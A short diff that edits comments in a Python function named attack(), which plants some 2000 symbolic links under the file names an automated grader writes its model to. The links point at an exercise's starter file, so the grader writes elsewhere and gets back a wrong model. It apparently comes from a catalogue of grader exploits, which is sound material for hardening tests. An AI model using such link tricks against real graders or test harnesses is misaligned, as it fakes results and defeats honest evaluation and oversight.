@@ -1,5 +1,5 @@
 # Leaves links under names that the grader may write to, so that it writes elsewhere.
-# Told: MAE
+# Reported: MAE
 import os
 
 
@@ -7,4 +7,4 @@ def attack():
     for number in range(2000):
         os.symlink("ROOT/exercises/category1_linear/starter.py", f".mymodel.h5.{number}")
     os.symlink("ROOT/exercises/category1_linear/starter.py", "mymodel.h5")
-    return None  # and a wrong model is returned, on which the grader goes on
+    return None  # tail.txt then returns a wrong model
